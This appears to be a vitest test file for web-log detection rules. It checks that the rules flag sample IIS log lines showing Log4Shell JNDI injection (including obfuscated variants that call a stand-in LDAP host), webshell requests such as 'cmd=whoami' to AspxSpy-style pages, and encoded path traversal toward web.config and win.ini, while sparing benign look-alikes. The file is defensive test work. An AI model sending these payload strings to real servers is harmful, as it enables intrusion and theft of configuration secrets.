import { describe, expect, it } from 'vitest';
import { WebLogReader } from '../../formats/web-log/web-log-reader.js';
import type { WebRecord } from '../../formats/web-log/web-record.js';
import { BUILTIN_WEB_RULES } from './builtin-rules.js';

const FIELDS = '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) cs-host sc-status sc-substatus sc-win32-status time-taken';

function record(line: string): WebRecord {
  const records: WebRecord[] = [];
  const reader = new WebLogReader({ file: 'u_ex.log', onRecord: (r) => records.push(r), onIssue: (i) => expect.fail(`${i.code}: ${i.message}`) });
  reader.push(Buffer.from(`${FIELDS}\n${line}\n`));
  reader.end();
  expect(records).toHaveLength(1);
  return records[0] as WebRecord;
}

/** Each rule: lines it must match and benign look-alikes it must not. */
const SAMPLES: Record<string, { match: string[]; clean: string[] }> = {
  'w3g-web-log4shell-jndi': {
    match: [
      '2024-03-11 01:12:44 10.0.0.1 GET / x=${jndi:ldap://203.0.113.9:1389/a} 80 - 203.0.113.9 curl/8 - www.example 200 0 0 3',
      '2024-03-11 01:12:45 10.0.0.1 GET /api q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fb%7D 80 - 203.0.113.9 curl/8 - www.example 404 0 2 2',
      '2024-03-11 01:12:46 10.0.0.1 GET / - 80 - 203.0.113.9 ${${lower:j}${::-n}di:dns://203.0.113.9/c} - www.example 200 0 0 3',
    ],
    clean: [
      '2024-03-11 01:12:47 10.0.0.1 GET / test=${jndi:ldap://w.nessus.org/nessus} 80 - 10.9.9.9 - - www.example 200 0 0 1',
      '2024-03-11 01:12:48 10.0.0.1 GET /docs/log4j.aspx q=what+is+jndi 80 - 198.51.100.2 Mozilla/5.0 - www.example 200 0 0 9',
    ],
  },
  'w3g-web-webshell-request': {
    match: [
      '2024-03-11 03:41:02 10.0.0.1 GET /aspnet_client/system_web/4_0_30319/log.aspx cmd=whoami 443 - 203.0.113.77 Mozilla/5.0 - www.example 200 0 0 140',
      '2024-03-11 03:41:03 10.0.0.1 POST /images/tunnel.aspx cmd=read 443 - 203.0.113.77 - - www.example 200 0 0 1',
      '2024-03-11 03:41:04 10.0.0.1 GET /uploads/AspxSpy.aspx - 443 - 203.0.113.77 Mozilla/5.0 - www.example 200 0 0 1',
    ],
    clean: [
      '2024-03-11 03:50:00 10.0.0.1 GET /cmd.aspx - 443 - 192.0.2.200 zgrab/0.x - www.example 404 0 2 1',
      '2024-03-11 03:50:01 10.0.0.1 GET /aspnet_client/system_web/4_0_30319/WebUIValidation.js - 443 - 198.51.100.3 Mozilla/5.0 - www.example 200 0 0 1',
      '2024-03-11 03:50:02 10.0.0.1 GET /shell.aspx.bak - 443 - 198.51.100.3 Mozilla/5.0 - www.example 404 0 2 1',
    ],
  },
  'w3g-web-traversal-config': {
    match: [
      '2024-03-11 03:05:17 10.0.0.1 GET /Handlers/Download.ashx file=..%252F..%252F..%252Fweb.config 443 - 198.51.100.40 Mozilla/5.0 - www.example 200 0 0 9',
      '2024-03-11 03:05:18 10.0.0.1 GET /Handlers/Download.ashx file=..%5C..%5Cweb.config 443 - 198.51.100.40 Mozilla/5.0 - www.example 200 0 0 7',
      '2024-03-11 03:05:19 10.0.0.1 GET /scripts/..%c0%af../winnt/win.ini - 443 - 198.51.100.40 Mozilla/5.0 - www.example 404 0 2 7',
    ],
    clean: [
      '2024-03-11 00:05:31 10.0.0.1 GET /kb/search.aspx q=how+to+read+web.config+settings 443 - 198.51.100.20 Mozilla/5.0 https://www.example/kb/ www.example 200 0 0 52',
      '2024-03-11 00:05:32 10.0.0.1 GET /web.config - 443 - 198.51.100.21 Mozilla/5.0 - www.example 404 0 2 1',
    ],
  },
};

describe('built-in web rules', () => {
  it('every rule has samples', () => {
    expect(Object.keys(SAMPLES).sort()).toEqual(BUILTIN_WEB_RULES.map((r) => r.meta.id).sort());
  });

  for (const detector of BUILTIN_WEB_RULES) {
    const samples = SAMPLES[detector.meta.id] ?? { match: [], clean: [] };
    it(`${detector.meta.id} matches its attack samples`, () => {
      for (const line of samples.match) {
        const r = record(line);
        expect(detector.test(r), line).toBe(true);
        // The needle prefilter must keep every line the rule matches.
        const text = `${r.raw.toLowerCase()} ${[r.decoded('cs-uri-stem'), r.decoded('cs-uri-query'), r.decoded('cs(user-agent)')].join(' ').toLowerCase()}`;
        expect(detector.needles?.some((n) => text.includes(n)), line).toBe(true);
      }
    });
    it(`${detector.meta.id} leaves its benign look-alikes alone`, () => {
      for (const line of samples.clean) expect(detector.test(record(line)), line).toBe(false);
    });
  }
});
